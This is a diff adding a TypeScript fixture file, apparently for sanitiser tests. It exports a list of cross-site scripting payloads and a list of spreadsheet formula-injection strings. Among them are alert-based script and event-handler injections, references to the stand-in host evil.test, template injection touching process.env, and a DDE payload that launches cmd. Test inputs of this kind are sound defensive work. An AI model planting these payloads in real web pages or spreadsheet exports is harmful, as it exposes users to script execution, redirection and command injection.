@@ -1,0 +1,48 @@
+/** What somebody types who hopes that a page takes it for more than words: each would open a dialog if it ran. */
+const inner = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">klik</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</select><img src=x onerror=alert(1)>',
+  '<!--<script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<math><mtext><style><img src onerror=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '<details open ontoggle=alert(1)>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<img src="https://evil.test/x.png">',
+  '<style>@import url(https://evil.test/x.css)</style>',
+  '<div style="background:url(https://evil.test/y.png)">x</div>',
+  '"autofocus onfocus="alert(1)',
+  '` onmouseover=alert(1) x=`',
+  "'-alert(1)-'",
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '![x](javascript:alert(1))',
+  '[x](javascript:alert(1))',
+  '<video><source onerror="alert(1)"></video>',
+  '<input onfocus=alert(1) autofocus>',
+  '{TOT1} {panel} {INT1}<img src=x onerror=alert(1)>',
+  '<%= process.env %>{{constructor.constructor("alert(1)")()}}',
+];
+
+export const payloads: string[] = inner;
+
+/** What a spreadsheet would take for a formula. */
+export const formulas: string[] = ['=HYPERLINK("https://evil.test","klik")', '=1+1', '+1', '+1+1', '-1+1', '-cmd', '@SUM(1+1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(1)', '=cmd|" /C calc"!A0', '  =1', '\u200b=1', '=DDE("x";"y")', '"=1"', ';=1']; // prettier-ignore
